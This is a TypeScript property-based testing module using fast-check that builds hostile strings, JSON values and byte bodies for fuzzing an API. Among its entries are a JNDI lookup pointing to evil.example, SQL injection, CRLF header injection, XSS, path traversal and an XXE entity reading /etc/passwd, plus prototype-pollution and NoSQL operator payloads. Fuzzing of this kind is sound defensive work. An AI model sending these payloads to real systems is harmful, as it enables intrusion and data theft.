import fc from 'fast-check';

/** Texts that are something else to a parser, a database, a template or a terminal behind the API. */
const texts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udc00\ud800',
  '\u202eevil',
  '\ufeffBOM',
  'line\r\nSet-Cookie: a=b',
  '%0d%0aBcc: x@evil.example',
  'ﷺ'.repeat(300),
  'x'.repeat(10_000),
  '👩‍👩‍👧‍👦'.repeat(60),
  'e\u0301'.repeat(150),
  'attribute_exists(id)',
  '#a = :b',
  'SET #n = if_not_exists(#n, :zero)',
  '{"S":"x"}',
  '$' + '{jndi:ldap://evil.example/a}',
  "'; DROP TABLE listings; --",
  '{{7*7}}',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '../../etc/passwd',
  '..%2f..%2f',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '999999999999999999999',
  '1e400',
  '-0',
  'NaN',
  '0x10',
  'true',
  'null',
  '[object Object]',
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '2026-02-30',
  'a@b@c',
  '"a b"@example.com',
  'x@[127.0.0.1]',
  'https://evil.example\\@good.example',
  'file:///etc/passwd',
];

export const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

const nested = (depth: number, open: string, close: string): string => open.repeat(depth) + close.repeat(depth);

/** Values, as JSON, that are of no field's type or at the edge of it. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'null',
      'true',
      '[]',
      '{}',
      '0',
      '-0',
      '-1',
      '1.5',
      '1e400',
      '-1e400',
      '1e-400',
      '9007199254740993',
      '9'.repeat(400),
      '[[]]',
      '[null]',
      '{"__proto__":{"isAdmin":true}}',
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"":1}',
      '{"S":"x"}',
      '{"$ne":null}',
      '{"toJSON":1,"length":-1,"then":"x"}',
      nested(40, '[', ']'),
      nested(1000, '{"a":', '}').replace('{"a":}', '{"a":1}'),
      `[${'0,'.repeat(2000)}0]`,
    ),
  },
  { weight: 1, arbitrary: fc.json({ maxDepth: 3 }) },
);

/** Bodies that are no JSON, or hardly. */
export const hostileBytes: fc.Arbitrary<Buffer> = fc.oneof(
  fc
    .constantFrom(
      '',
      ' ',
      '{',
      '{"title":',
      'null',
      '[]',
      '"text"',
      '{}{}',
      '{"title":"a","title":"b"}',
      '{"title":"\\ud800"}',
      '\ufeff{}',
      'NaN',
      nested(5000, '[', ']'),
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      'title=a&title=b',
    )
    .map((text) => Buffer.from(text)),
  fc
    .constantFrom('7b227469746c65223a22ff227d', 'c0af', 'edA080', 'f5808080', '7b0022', '1f8b0800', 'fffe7b007d00')
    .map((hex) => Buffer.from(hex, 'hex')),
  fc.uint8Array({ maxLength: 64 }).map((bytes) => Buffer.from(bytes)),
);
